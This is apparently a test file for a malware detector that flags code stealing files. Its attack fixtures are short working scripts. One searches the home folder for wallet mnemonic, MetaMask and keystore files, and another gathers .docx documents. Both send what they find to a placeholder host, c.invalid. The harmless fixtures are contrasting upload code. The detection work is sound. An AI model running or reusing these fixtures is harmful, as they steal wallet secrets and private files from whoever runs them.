import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-files.ts'

const seen = async (code: string) =>
  hits(detector, await artifactOf({ 'a.mjs': code })).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

test.each([
  [
    'names of wallets, sent as a form',
    `import fs from 'fs'; import os from 'os'; import path from 'path'; import FormData from 'form-data'; import axios from 'axios'
const hot = /(mnemonic|metamask|keystore)/i
const look = (folder) => { for (const name of fs.readdirSync(folder)) { const full = path.join(folder, name); if (fs.statSync(full).isDirectory()) look(full); else if (hot.test(name)) send(full) } }
function send(full) { const form = new FormData(); form.append('f', fs.createReadStream(full))
axios.post('https://c.invalid/up', form) }
look(os.homedir())`,
    ['decisive 11 a.mjs:5'],
  ],
  [
    'all that is there',
    `import { globSync } from 'glob'; import { readFileSync } from 'fs'
for (const f of globSync('**/*.docx', { cwd: process.env.HOME })) fetch('https://c.invalid', { method: 'POST', body: readFileSync(f) })`,
    ['strong 5 a.mjs:2'],
  ],
])('attack: %s', async (_, code, expected) => {
  expect(await seen(code)).toEqual(expected)
})

test.each([
  [
    'files of the project',
    `import fs from 'fs'; import path from 'path'
for (const name of fs.readdirSync(path.join(process.cwd(), 'dist'))) fetch('https://up.example/' + name, { method: 'PUT', body: fs.readFileSync('dist/' + name) })`,
  ],
  [
    'a list of the home folder that stays',
    `import fs from 'fs'; import os from 'os'
console.log(fs.readdirSync(os.homedir())); fetch('https://api.example', { method: 'POST', body: '{}' })`,
  ],
])('harmless: %s', async (_, code) => {
  expect(await seen(code)).toEqual([])
})
